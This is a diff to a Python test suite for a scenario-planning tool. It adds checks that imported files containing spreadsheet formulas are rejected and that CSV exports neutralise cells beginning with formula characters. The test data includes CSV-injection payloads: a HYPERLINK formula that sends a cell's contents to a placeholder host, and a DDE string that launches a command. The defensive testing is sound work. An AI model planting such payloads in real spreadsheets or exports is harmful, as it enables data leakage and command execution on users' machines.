@@ -51,6 +51,7 @@ PLANS = {
     "negative-troops.csv": ["feature 0 (id 'P1-S01')", "field 'troops_IDN'", "'-300'"],
     "not-utf8.csv": ["not UTF-8"],
     "wrong-columns.csv": ["missing columns"],
+    "formula-sector-id.csv": ["feature 0", "field 'sector_id'", "=HYPERLINK", "unknown sector"],
 }
 SCENARIOS = {
     "unknown-key": ["field 'favourite_colour'", "unknown key"],
@@ -67,6 +68,10 @@ SCENARIOS = {
                                        "field 'geometry'", "once projected to EPSG:32636"],
     "crs-in-feet": ["scenario.yaml", "field 'crs'", "'EPSG:2263'", "in metres",
                     "US survey foot"],
+    "formula-sector-id": ["sectors.geojson", "feature 0", "field 'sector_id'", "=HYPERLINK",
+                          "must be an identifier"],
+    "formula-contingent-code": ["scenario.yaml", "contingent 7", "field 'code'", "'@SUM(1+1)'",
+                                "must be an identifier"],
 }
 CASES = ([("layers", n, ["layers", "validate", str(HOSTILE / "layers" / n), "--geometry",
                          "polygon"], w) for n, w in LAYERS.items()]
@@ -125,7 +130,32 @@ def test_failed_commands_leave_existing_outputs_untouched(tmp_path):
         code, _, err = run_cli(argv)
         assert code == 2, err
         assert target.read_text(encoding="utf-8") == "precious"
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.geojson", "plans.sqlite"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.geojson"]  # no store made
+
+
+def test_csv_we_write_never_starts_a_cell_with_a_formula_and_reads_back_the_same(
+        tmp_path, mini_dir):
+    import csv
+
+    from planner.domain.plan import Assignment, Plan
+    from planner.domain.sectors import sector_table
+    from planner.files.planfile import FORMULA_START, plan_csv, read_plan
+    from planner.files.scenario_file import load_scenario
+    doc = yaml.safe_load((mini_dir / "scenario.yaml").read_text(encoding="utf-8"))
+    doc["name"] = '=HYPERLINK("http://x.invalid/?"&A1,"click")'  # names are free text
+    (mini_dir / "scenario.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
+    scenario = load_scenario(mini_dir)
+    table = sector_table(scenario)
+    plan = Plan.from_assignments([Assignment(1, "P1-S01", "AAA", {"AAA": 60, "BBB": 10})])
+    text = plan_csv(plan, table, mandate="chapter-vi", plan_name="@cmd|' /C calc'!A0",
+                    revision=3)
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]
+    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")" in cells
+    assert "'@cmd|' /C calc'!A0" in cells
+    path = tmp_path / "plan.csv"
+    path.write_text(text, encoding="utf-8")
+    assert read_plan(path, table, [c.code for c in scenario.contingents]) == plan
 
 
 def test_app_upload_paths_refuse_every_hostile_plan_and_layer(gaza, tmp_path):
